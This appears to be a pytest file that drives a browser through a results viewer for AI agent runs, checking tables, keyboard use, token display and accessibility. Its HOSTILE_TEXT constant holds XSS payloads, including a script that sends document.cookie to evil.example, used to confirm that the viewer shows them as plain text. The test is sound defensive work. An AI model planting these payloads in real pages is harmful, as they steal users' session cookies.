"""The viewer's pages in a real browser: over a real run, over hostile rows, by keyboard, in the dark, on a phone."""

from __future__ import annotations

import json
import random
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.view.results import failed, row, said, write
from tests.view.serving import DEADLINE_MS, ROOT, Look, browsing, viewing

HOSTILE_TEXT = (
    "<script>fetch('http://evil.example/' + document.cookie)</script><img src=http://evil.example/x onerror=alert(1)>"
    "\x1b[31mred\x1b[0m \u202egnirts\u202c \u200b \x00 \U000e0041\u3164. </pre><style>body{display:none}</style>"
    "[a](javascript:alert(1)) {{7*7}} ${7*7}"
)

NAMES_OF_OBJECTS = ("constructor", "toString", "__proto__")


def chain(tokens: int) -> dict[str, Any]:
    chance = random.Random(1)
    mask = [(place // 50) % 2 for place in range(tokens)]
    return {
        "session_id": "s",
        "index": 0,
        "turns": [{"start": 50, "end": 100, "finish_reason": "stop", "weights_version": "w7"}],
        "split_reason": "compaction",
        "split_detail": "the history was rewritten",
        "message_count": 2,
        "reward": 1.0,
        "reward_info": {},
        "multimodal": [],
        "prompt_ids": [chance.randrange(1000) for _ in range(100)],
        "response_ids": [chance.randrange(1000) for _ in range(tokens)],
        "response_mask": mask,
        "logprobs": [-chance.expovariate(1) if bit else 0.0 for bit in mask],
    }


def hostile_rows() -> list[Any]:
    text = HOSTILE_TEXT
    output = [
        said(text),
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]},
        {"type": "function_call", "call_id": "a", "name": text, "arguments": json.dumps({"command": text})},
        {"type": "function_call_output", "call_id": "a", "output": text},
        said("long " * 100_000),
    ]
    diff = f"diff --git a/{text} b/{text}\n--- a\n+++ b\n@@ -1 +1 @@\n-x = '{text}'\n+y = 1  # {text}\n"
    diff += "".join(f"diff --git a/x.{name} b/x.{name}\n@@ -0,0 +1 @@\n+return 1\n" for name in NAMES_OF_OBJECTS)
    deep: Any = "deep"
    for _ in range(400):
        deep = [deep]
    return [
        row(
            0,
            task_id=text,
            reward=0.0,
            response={"output": output},
            responses_create_params={"input": [{"role": "user unseen", "content": text}]},
            reward_reason=text,
            outcome=text,
            agent_ref={"name": text},
            findings=[{"kind": text, "detail": text, "evidence": {text: text}}],
            artifacts=[{"name": text, "kind": "git_diff", "encoding": "utf-8", "data": diff, "size": 10}],
            official={"tests_status": {"FAIL_TO_PASS": {"failure": [text]}}},
            details={"deep": deep},
            ng_trajectory=[chain(3000)],
        ),
        b'{"_ng_task_index": 1, "_ng_rollout_index": 0, "reward": 1, "task_id": "\xff\xfe\xed\xa0\x80"}',
        b"\xff\xff",
        row(2, huge="x" * 10_000_000),
        failed(3, failure_reason=text, failures=[{"stage": text, "kind": text, "reason": text}] * 3),
    ]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real run of the math environment, and rows that nobody should trust."""
    folder = tmp_path_factory.mktemp("results")
    command = [
        *(str(Path(sys.executable).with_name("ng_run")), "agent=simple_agent", "environment=math", "model=scripted"),
        *("input=resources_servers/math/data/example.jsonl", f"output={folder / 'math.jsonl'}", "num_repeats=2"),
        f"run_dir={folder / 'servers'}",
    ]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    write(folder / "hostile.jsonl", *hostile_rows())
    return folder


@pytest.fixture(scope="module")
def url(folder: Path) -> Iterator[str]:
    with viewing(folder) as found:
        yield found


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as found:
        yield found


def test_pages_of_a_real_run_show_what_its_table_shows(browser: Browser, url: str) -> None:
    look = Look.at(browser, url)
    page = look.page
    page.get_by_role("link", name="math").click()
    page.wait_for_selector("table.rows tbody tr")
    assert page.locator("table.rows tbody tr").count() == 12
    assert "0.833" in page.locator(".card").first.inner_text()
    assert "wrong answer" in page.locator(".reasons").inner_text()
    # The worst first; its page tells why.
    page.locator("table.rows tbody a").first.click()
    page.wait_for_selector(".why-box")
    assert page.locator("h1").inner_text().startswith("interval")
    assert "Not solved" in page.locator(".why-box").inner_text()
    page.get_by_role("tab", name="Turns").click()
    assert "boxed" in page.locator(".turn").inner_text()
    # A search, a filter and an order are in the address, so that they can be sent to a colleague.
    key = look.runs()["math"]
    look.go(f"#/run/{key}?q=garden&reward=1&sort=seconds&descending=1", "table.rows tbody tr")
    assert page.locator("table.rows tbody tr").count() == 2
    assert page.locator("th[aria-sort=descending]").inner_text() == "time ↓"
    look.go(f"#/run/{key}?by=task", "td.samples")
    assert page.locator("td.samples").first.locator("a").count() == 2
    assert look.faults() == []
    assert look.wrong == []


def test_keyboard_goes_everywhere(browser: Browser, url: str) -> None:
    look = Look.at(browser, url)
    page = look.page
    look.go(f"#/run/{look.runs()['math']}", "table.rows tbody tr")
    page.keyboard.press("/")
    page.keyboard.type("garden")
    expect(page.locator("table.rows tbody tr")).to_have_count(2, timeout=DEADLINE_MS)
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector("#tab-panel")
    assert page.locator("h1").inner_text().startswith("garden")
    page.keyboard.press("2")
    page.wait_for_selector(".turn")
    page.keyboard.press("n")
    expect(page.locator("h1")).to_have_text("garden #1", timeout=DEADLINE_MS)
    page.keyboard.press("?")
    page.wait_for_selector(".help")
    page.keyboard.press("u")
    page.wait_for_selector("table.rows")
    theme = "document.documentElement.dataset.theme"
    page.keyboard.press("t")
    assert page.evaluate(theme) == "dark"
    page.keyboard.press("t")
    assert page.evaluate(theme) == "light"
    assert look.wrong == []


def test_hostile_rows_are_text_and_no_request_leaves_the_page(browser: Browser, url: str) -> None:
    look = Look.at(browser, url)
    page = look.page
    page.on("dialog", lambda dialog: look.wrong.append(dialog.message))
    key = look.runs()["hostile"]
    look.go(f"#/run/{key}", "table.rows tbody tr")
    assert "a line of hostile.jsonl is not a result row (line 3" in page.locator(".note").first.inner_text()
    assert page.locator("table.rows tbody tr").count() == 4
    assert "<script>fetch(" in page.locator(".reasons").inner_text()
    for rollout in ("run.0-0", "1-0", "run.2-0", "run.3-0"):
        look.go(f"#/run/{key}/rollout?id={rollout}", "#tab-panel > *")
        for tab in page.get_by_role("tab").all():
            tab.click()
            page.wait_for_selector("#tab-panel > *")
    look.go(f"#/run/{key}/rollout?id=run.0-0", "article.message")
    assert page.locator("article.message").bounding_box()["height"] > 50
    look.go(f"#/run/{key}/rollout?id=run.0-0&tab=diff", ".diff")
    assert page.locator(".diff").count() == 1 + len(NAMES_OF_OBJECTS)
    look.go(f"#/run/{key}/rollout?id=run.0-0&tab=turns", ".turn")
    shown = page.locator(".turn").first.inner_text()
    assert "\u202e" not in shown
    assert "<img src=http://evil.example/x" in shown
    assert "^[[31mred" in shown
    assert "U+202E" in shown
    assert "U+E0041U+3164." in shown
    assert [each for each in look.requested if not each.startswith(look.base)] == []
    # The policy of the pages would have kept them as well.
    assert look.wrong == []
    page.evaluate("fetch('http://127.0.0.1:9/').catch(() => 0)")
    assert "violates" in look.wrong.pop()
    assert page.evaluate("try { document.body.innerHTML = '<b>x</b>'; 'set' } catch { 'refused' }") == "refused"


def test_tokens_show_mask_logprobs_turns_and_why_the_chain_was_split(browser: Browser, url: str) -> None:
    look = Look.at(browser, url)
    page = look.page
    look.go(f"#/run/{look.runs()['hostile']}/rollout?id=run.0-0&tab=tokens", ".tokens .token.sampled")
    assert "compaction: the history was rewritten" in page.locator(".chains").inner_text()
    expected = chain(3000)
    assert page.locator(".token.prompt").count() == 100
    sampled = page.locator(".block .token.sampled")
    first = expected["response_ids"][50]
    assert sampled.first.inner_text() == str(first)
    assert "turn 1 · stop · weights w7" in page.locator(".tokens").inner_text()
    sampled.first.hover()
    told = page.locator(".told").inner_text()
    assert told.startswith(f"token 150: id {first}, sampled, logprob {expected['logprobs'][50]:.4f}")
    shades = {each for each in (page.locator(f".block .s{shade}").count() for shade in range(8)) if each}
    assert shades
    assert look.faults() == []


@pytest.mark.parametrize(
    ("scheme", "width"),
    [
        ("light", 1280),
        pytest.param("dark", 390, marks=pytest.mark.full),
        pytest.param("dark", 1280, marks=pytest.mark.full),
        pytest.param("light", 390, marks=pytest.mark.full),
    ],
)
def test_no_page_has_a_serious_fault_of_accessibility(browser: Browser, url: str, scheme: Any, width: int) -> None:
    look = Look.at(browser, url, color_scheme=scheme, viewport={"width": width, "height": 800})
    runs = look.runs()
    places = {
        "runs": ("", "table.rows tbody tr"),
        "run": (f"#/run/{runs['hostile']}", "table.rows tbody tr"),
        "rollout": (f"#/run/{runs['hostile']}/rollout?id=run.0-0", ".why-box"),
        "turns": (f"#/run/{runs['hostile']}/rollout?id=run.0-0&tab=turns", ".turn"),
        "diff": (f"#/run/{runs['hostile']}/rollout?id=run.0-0&tab=diff", ".diff"),
        "compare": (f"#/compare?a={runs['math']}&b={runs['hostile']}", ".cards"),
    }
    for name, (place, selector) in places.items():
        look.go(place, selector)
        assert (name, look.faults()) == (name, [])
        too_wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        assert (name, look.page.evaluate(too_wide)) == (name, 0)
    look.page.close()
